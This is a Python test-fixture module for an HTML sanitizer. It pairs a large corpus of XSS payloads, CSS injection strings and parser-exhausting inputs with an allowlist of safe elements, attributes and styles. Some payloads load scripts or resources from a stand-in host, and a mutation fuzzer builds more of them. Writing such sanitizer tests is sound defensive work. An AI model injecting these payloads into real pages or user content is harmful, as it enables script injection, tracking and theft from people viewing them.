"""Hostile HTML, each class of attack in a few shapes, and mutations of them; and what may be in clean HTML, written
down a second time, apart from the program's tables. For the stories and for the browser."""
import random
import re

ALERT = "alert(1)"
HOSTILE = [
    # Plain
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x></sCrIpT>", "<script\n>alert(1)</script\t>", "<script/x>alert(1)</script/y>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//>", "<img src='x'onerror='alert(1)'>", "<body onload=alert(1)>", "<p onclick\n=\nalert(1)>x",
    "<a onmouseover=alert(1)>x</a>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>", "<keygen autofocus onfocus=alert(1)>", "<p style='animation:x' onanimationstart=alert(1)>x", "<x onclick=alert(1) tabindex=1>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=submit>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<dialog open oncancel=alert(1)>x</dialog>", "<portal src=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=x></layer>", "<xml id=x></xml>",
    # Schemes
    *[f'<a href="{url}">x</a><img src="{url}">' for url in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java&#x0A;script:alert(1)",
        "java&NewLine;script:alert(1)", "java&Tab;script:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x000000006Aavascript:alert(1)",
        "&#0000000000000000106;avascript:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)", "\u2028javascript:alert(1)", "javascript\x00:alert(1)", "javascript\u200b:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "livescript:x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
        "blob:https://x/y", "filesystem:https://x/y", "file:///etc/passwd", "http://evil.example/", "ftp://evil.example/", "//evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example",
        "https:///evil.example", "https://good.example@evil.example/", "https://good.example\\@evil.example", "https://evil.example\t/", "?x", "#x", ".", "x", "%6aavascript:alert(1)",
        "web+javascript:alert(1)", "ms-its:x", "jar:x", "intent:x", "mailto:x@y.example?bcc=a", "tel:1", "cid:x", "https://h.example/'onclick=alert(1)")],
    # Quotes, tags and their ends
    '<a title="&quot;><img src=x onerror=alert(1)>">x</a>', "<a title='\"><script>alert(1)</script>'>x</a>", "<a title=`><img src=x onerror=alert(1)>`>x</a>", '<img alt="``onerror=alert(1)" src=x>',
    "<p title=x\"onclick=alert(1)>y", "<<script>alert(1)//<</script>", "<script<script>>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<a<b onclick=alert(1)>x", "<a =onclick=alert(1)>x",
    "<a \"onclick=alert(1)\">x", "</a onclick=alert(1)>", "</p/onclick=alert(1)>", "<p/onclick=alert(1)/>", "<\x00script>alert(1)</script>", "<script\x00>alert(1)</script>", "<p \x0conclick=alert(1)>", "<\u017fcript>alert(1)</script>",
    "<p title='a\x00b' on\x00click=alert(1)>", "<p title=a title=b onclick=alert(1) ONCLICK=alert(1)>", "<p onclick=alert(1)", "<p title='", "<", "</", "<!", "<?", "<a", "<a ", "<a b", "<a b=", "<a b='c", "&", "&#", "&#x", "&amp",
    # Comments, declarations
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->", "<!--a--!b--><img src=x onerror=alert(1)>", "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>", "<?xml version='1.0'?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY a '<img src=x onerror=alert(1)>'>]>&a;",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![if true]><script>alert(1)</script><![endif]>", "<%<img src=x onerror=alert(1)>%>", "<!-- -- ><script>alert(1)</script>", "<comment><img src='</comment><img src=x onerror=alert(1)>'>",
    # Raw text that ends elsewhere for another reader
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<style><p title='</style><img src=x onerror=alert(1)>'></style>", "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>", "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>", "<plaintext><img src=x onerror=alert(1)>",
    "<script><!--<script></script><img src=x onerror=alert(1)>--></script>", "<script>x='<!--<script>'</script><img src=x onerror=alert(1)><!--", "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
    "<template><template></template><img src=x onerror=alert(1)></template>", "<select><noscript><img src=x onerror=alert(1)></noscript></select>", "<select><style></select><img src=x onerror=alert(1)></style>", "<select><script></select><img src=x onerror=alert(1)></script>",
    "<head><title></head><img src=x onerror=alert(1)></title>", "<frameset><noframes><img src=x onerror=alert(1)></noframes></frameset>", "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    # Namespaces
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<svg><p><style><g title='</style><img src onerror=alert(1)>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mtext><mglyph><svg><mtext><style><path id='</style><img src onerror=alert(1)>'>", "<svg><foreignObject><p><svg><style><!--</style><img src=x onerror=alert(1)>-->",
    "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>", "<svg><title><style></title></svg><img src=x onerror=alert(1)></style>", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><p><svg><style></p><img src onerror=alert(1)>", "<math><mi><table><mglyph><style></mi></table><img src=x onerror=alert(1)></style>", "<svg><a xlink:href=javascript:alert(1)><text y=1em>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><set attributeName=onmouseover to=alert(1)></svg>", "<svg><use href='data:image/svg+xml,x#y'/></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><font color=x><img src=x onerror=alert(1)></font></svg>", "<svg><font x><style><img src=x onerror=alert(1)></style></font></svg>", "<math href=javascript:alert(1)>x</math>", "<svg></svg><style><svg></style><img src=x onerror=alert(1)>", "<math></br><style><img src=x onerror=alert(1)></style></math>",
    "<svg><br><style><img src=x onerror=alert(1)></style>", "<table><svg><td><style><img src=x onerror=alert(1)></style>", "<svg><image href=//evil.example/x /></svg>", "<svg><feImage href=//evil.example/x /></svg>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    # Tables, formatting, what is moved
    "<table><img src=x onerror=alert(1)><td>y", "<table><script>alert(1)</script>", "<table><style>x</style><form><input type=hidden></form>", "<b><table><td></b><i></table>x", "<a><table><a>x</table>", "<a href=cid:x><table><td><a href=cid:y>z</table>w", "<p><table><p>x</table>y</p>",
    "<table><tr><p><td><b></tr>x</table>", "<table><caption><table></caption><td>x</table>", "<table><col><b>x<colgroup><td>y", "<b><i><u><s><p>x</b></i></u></s>y</p>", "<b title=1><b title=2><b title=3><p></b></b>x</p>y", "<h1><h2><b></h1>x</h2>y", "<li><ul><li><b></ul></li>x",
    "<dl><dt><dd><b><dt>x</dl>y", "<pre>\n\n\nx</pre><pre>\r\nx</pre><pre><b>\n</b></pre>", "<font color=red><div>x</font>y</div>", "<nobr><nobr>x<nobr>", "<center><font><p></center>x</font>", "<button><p></button>x", "<p></div></p></p>x", "<form><div></form><form>x</div></form>",
    "<body><body style=color:red><html lang=x><head>x", "</body></html>x<p>y", "<image src=x onerror=alert(1)>", "<a><b><div></a>x</b>y</div>", "<td>x<table><tr>y<td>z</tr>w</table>", "<ruby><rt><rp>x</ruby>", "<option><optgroup><option>x",
    "<div>" * 150 + "<b><p></b>x" * 5, "<b>" * 150 + "<p>x</p>" * 3, "<table><td>" * 40 + "x", "<svg>" * 100 + "</svg>" * 100 + "<img src=x onerror=alert(1)>", "<font>" * 30 + "<p>x</font>" * 30,
    # Clobbering, tracking
    "<form id=attributes><input name=nodeName></form>", "<img name=body><img id=cookie><a id=location href=cid:x>x</a>", "<a name=getElementById class=x data-x=y slot=z part=w is=v>x</a>", "<img src=cid:a srcset='//evil.example/x 1x' sizes=1 lowsrc=x dynsrc=x longdesc=x usemap=#x ismap crossorigin loading=lazy>",
    "<table background=//evil.example/x><td background=//evil.example/x>y</table>", "<body background=//evil.example/x>", "<a href=https://h.example/ ping=//evil.example/ target=x rel=opener referrerpolicy=unsafe-url download>x</a>", "<video poster=//evil.example/x></video>",
    "<blockquote cite=//evil.example/x>y</blockquote><q cite=javascript:alert(1)>z</q>", "<input type=image src=//evil.example/x>", "<map name=x><area href=javascript:alert(1)></map>", "<p contenteditable draggable accesskey=x autofocus hidden inert popover nonce=x itemid=x>y</p>",
    "<div style=\"color:red\" role=button aria-label='<b>' aria-hidden=x tabindex=1 lang='\"' dir=x>y</div>", "<label for=x>y</label><output>z</output><meter>w</meter><progress>v</progress>", "<p xmlns:x=y x:onclick=alert(1) xml:lang=z>w",
]
STYLES = [
    "background:url(//evil.example/x)", "background:\\75 rl(//evil.example/x)", "background:u\\72l(x)", "background:ur/**/l(x)", "background:URL( 'x' )", "background-image:image-set('x' 1x)", "background:image(x)", "background:cross-fade(url(x),url(y))", "background:element(#x)",
    "list-style:url(x)", "list-style-image:url(x)", "content:url(x)", "cursor:url(x),auto", "border-image:url(x) 1", "-webkit-mask:url(x)", "filter:url(x)", "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=x)", "behavior:url(x)", "-moz-binding:url(x#y)", "src:url(x)", "shape-outside:url(x)",
    "width:expression(alert(1))", "width:e\\78pression(alert(1))", "width:exp/**/ression(alert(1))", "color:var(--x)", "--x:url(y)", "color:env(x)", "width:attr(data-x)", "width:calc(100% + 1px)", "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute", "p\\6fsition:fixed", "posi/**/tion:fixed",
    "z-index:99999", "transform:scale(100)", "margin:-9999px", "margin-left:-1px", "top:0", "float:left", "opacity:0.5", "animation:x 1s", "transition:all 9s", "@import url(x)", "@import 'x';color:red", "@font-face{src:url(x)}", "}body{display:none", "color:red}</style><img src=x onerror=alert(1)>", "color:red;</p><img src=x onerror=alert(1)>",
    "font-family:'x;color:red", "font-family:\"</style>\"", "font-family:x\\27 y", "font-family:expression(alert(1))", "font:1px url(x)", "font:bold 12px/1.5 Arial,'Times New Roman',serif", "color:red!important", "color:#12345", "color:rgb(1,2,3,4,5)", "color:rgb(url(x),2,3)", "color:rgba(1,2,3,.5)", "color:RED;COLOR:blue",
    "width:1e99px", "width:99999999999999999999px", "width:.5em", "width:+5px", "width:-0px", "width:1.00001px", "line-height:1.5", "margin:1px 2px 3px 4px 5px", "color:red blue", "color:;width:1px", ":red;width:1px", "color red;width:1px", "{color:red};width:1px", "x:(;color:red;);width:1px", "x:[;];width:1px", "x:{;};width:1px", "/*x*/color/*y*/:/*z*/red/*", "<!--color:red-->", "color:\\", "color:re\nd", "color:'\n';width:1px",
    "\\", "\"", "'", "\\0", "\ufeffcolor:red", "color:\u00a0red", "cölor:red", "display:none", "display:contents", "visibility:hidden", "white-space:pre-wrap", "text-decoration:underline red", "mso-line-height-rule:exactly", "-ms-behavior:url(x)", "zoom:9", "direction:rtl;unicode-bidi:bidi-override", "all:unset", "inset:0", "clip-path:url(#x)", "page:x", "src:local(x)", "quotes:'x' 'y'", "counter-reset:x", "offset-path:url(x)", "pointer-events:none", "user-select:none", "will-change:transform", "contain:strict", "container:x",
]
ORDINARY = [
    "<p>Hello <b>Ada</b>, your <a href=\"https://letters.example.com/x?a=1&amp;b=2\">policy</a> is ready.</p>",
    "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" align=\"center\" bgcolor=\"#ffffff\"><tr><td style=\"padding:20px;font-family:Arial,sans-serif\"><h2>Title</h2><img src=\"cid:logo\" alt=\"Logo\"></td></tr></table>",
    "<ul><li>one<li>two</ul><ol start=3><li>three</ol><dl><dt>a<dd>b</dl><blockquote>q</blockquote><pre>\n x\n  y</pre><hr>", "a &lt;b&gt; &amp; c &copy; &#8364; &nbsp; d", "<font face=\"Arial\" size=2 color=navy>old</font><center>mail</center><br clear=all>",
]


def hostile():
    quoted = [style.replace("&", "&amp;").replace('"', "&quot;") for style in STYLES]
    return HOSTILE + [f'<p style="{style}">x</p>' for style in quoted] + ORDINARY


PIECES = ["<", ">", "/", "=", '"', "'", "`", " ", "\n", "\t", "\x0c", "\x00", "\r", "&", ";", "#", "!", "-", "--", "<!--", "-->", "--!>", "]]>", "<![CDATA[", "<?", "</", "/>", "<p>", "</p>", "<b>", "</b>", "<a href=cid:x>", "</a>", "<table>",
          "</table>", "<tr>", "<td>", "</td>", "<caption>", "<svg>", "</svg>", "<math>", "</math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<title>", "</title>", "<noscript>", "</noscript>", "<template>", "</template>", "<select>", "</select>", "<option>", "<form>",
          "</form>", "<textarea>", "</textarea>", "<script>", "</script>", "<img src=x onerror=alert(1)>", "<pre>", "\n\n", "<li>", "<ul>", "</ul>", "<h1>", "<h2>", "<i>", "</i>", "<font color=red>", "<div>", "</div>", "<annotation-xml encoding=text/html>",
          "<foreignObject>", "<desc>", "<frameset>", "<html>", "<body>", "</body>", "<head>", "<plaintext>", "<xmp>", "</xmp>", "<iframe>", "</iframe>", "&#x3c;", "&lt;", "&gt;", "&quot;", "&amp;", "&colon;", "\u00a0", "\u2028", "\ufffd", "é", "<span title='", "' onclick=alert(1) x='",
          "javascript:", "https://h.example/", "style=", "title=", " onerror=alert(1) ", "url(x)", "<nobr>", "<button>", "<object>", "<marquee>", "<dd>", "<dt>", "</br>", "<hr>", "<col>", "<colgroup>", "<tbody>", "<center>", "</center>"]


def generated(count, seed):
    """Half are pieces in a row, half are known attacks, cut, joined and changed."""
    chance, known = random.Random(seed), hostile()
    for _ in range(count):
        if chance.random() < 0.5:
            yield "".join(chance.choice(PIECES) for _ in range(chance.randint(2, 25)))
            continue
        text = "".join(chance.choice(known) for _ in range(chance.randint(1, 3)))
        for _ in range(chance.randint(1, 4)):
            at = chance.randrange(len(text) + 1)
            text = text[:at] + chance.choice(PIECES) + text[at + chance.choice([0, 0, 1, 3, 9]):]
        yield text


# ── What may be in clean HTML ────────────────────────────────────────────────────────────────────────

ELEMENTS = set("""a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em
    figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub sup
    table tbody td tfoot th thead time tr tt u ul var wbr""".split())
ATTRIBUTES = set("""href src alt title lang dir role aria-label aria-hidden width height align valign bgcolor border cellpadding cellspacing colspan rowspan
    span nowrap scope hspace vspace color face size clear noshade start value type reversed datetime style target rel""".split())
PROPERTIES = re.compile(r"(background(-color)?|border(-(top|right|bottom|left))?(-(color|style|width))?|border-(top-left|top-right|bottom-left|bottom-right)-radius|"
                        r"border-(collapse|radius|spacing)|box-sizing|caption-side|clear|color|direction|display|empty-cells|float|font(-(family|size|style|variant|weight))?|"
                        r"((max|min)-)?(height|width)|hyphens|(letter|word)-spacing|line-height|list-style(-(position|type))?|(margin|padding)(-(top|right|bottom|left))?|"
                        r"opacity|outline|overflow(-wrap)?|word-(wrap|break)|table-layout|text-(align|decoration|indent|transform)|vertical-align|visibility|white-space)\Z")
VALUE = re.compile(r"[A-Za-z0-9 #.,%/!_-]+(\([0-9.,%]+\))?(!important)?\Z")
ENTITY = re.compile(r"&(?!(amp|lt|gt|quot|#39|#96|nbsp);)")


def style_problem(style):
    for declaration in style.split(";"):
        name, colon, value = declaration.partition(":")
        if not colon or not PROPERTIES.match(name) or not VALUE.match(value) or re.search(r"(?<![a-z0-9-])-\d", value.replace("letter-spacing", "")) and not name.endswith("-spacing"):
            return f"style {declaration!r}"
    return None


def url_problem(url, image, remote):
    if not re.match(r"[!-~]+\Z", url) or "\\" in url or '"' in url or "<" in url:
        return f"bytes in {url!r}"
    if url.startswith("cid:"):
        return None
    if url.startswith("https://"):
        host = re.match(r"https://([^/?#]*)", url)[1]
        fits = re.fullmatch(r"([a-z0-9._-]+|\[[0-9A-Fa-f:.]+\])(:\d{1,5})?", host)
        return None if fits and (remote or not image) else f"host of {url!r}"
    return None if not image and url.startswith(("mailto:", "tel:")) else f"scheme of {url!r}"


def problem(tag, attributes, remote=False):
    """What is wrong with one element of a parsed tree, or None. Names as the parser gives them."""
    if tag not in ELEMENTS:
        return f"element {tag!r}"
    for name, value in attributes.items():
        if name not in ATTRIBUTES:
            return f"attribute {name!r}"
        wrong = url_problem(value, name == "src", remote) if name in ("href", "src") else style_problem(value) if name == "style" else None
        if wrong:
            return wrong
    if attributes.get("target", "_blank") != "_blank" or attributes.get("rel", "noopener noreferrer") != "noopener noreferrer":
        return "target"
    if attributes.get("href", "").startswith("https:") and ("target" not in attributes or "rel" not in attributes):
        return "a link that leads out without rel"
    return None


def text_problem(clean):
    """What is wrong with the bytes, before anyone parses them."""
    if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\xa0`']", clean):
        return "a character that is written as an entity or not at all"
    if ENTITY.search(clean):
        return "a character reference that we do not write"
    if re.search(r"<(?!/?[a-z][a-z0-9]*( |>))|<[^>]*<", clean):
        return "a < that begins no tag of ours"
    return None

# Known to have cost others more than their length (THREATS B-41).
SHAPES = {  # each as long as it is told
    "less-than": lambda n: "<" * n, "open tags": lambda n: "<a " * (n // 3), "open comments": lambda n: "<!--" * (n // 4), "references": lambda n: "&amp;" * (n // 5), "half references": lambda n: "&#x" * (n // 3),
    "nested": lambda n: "<div>" * (n // 5), "formatting": lambda n: "".join(f"<p><b id={i}>" for i in range(n // 13)), "titles": lambda n: "".join(f"<p><b title={i}>" for i in range(n // 16)),
    "attributes": lambda n: "<p " + " ".join(f"a{i}" for i in range(n // 7)) + ">", "bodies": lambda n: "".join(f"<body a{i}=b>" for i in range(n // 14)), "fostered": lambda n: "<table>" + "x<b>y</b>" * (n // 9),
    "misnested": lambda n: "<b><i><p></b></i></p>" * (n // 21), "selects": lambda n: "<select><option>" * (n // 16), "links in blocks": lambda n: "<div>" * 150 + "<a><p>x</a>" * (n // 11), "tables": lambda n: "<table><td>" * (n // 11),
    "semicolons": lambda n: "<p style='" + ";" * n + "'>", "css comments": lambda n: "<p style='" + "/*" * (n // 2) + "'>", "css brackets": lambda n: "<p style='a:" + "(" * n + "'>", "raw ends": lambda n: "<script>" + "</" * (n // 2), "dashes": lambda n: "<!" + "-" * n, "NULs": lambda n: "\0" * n,
}
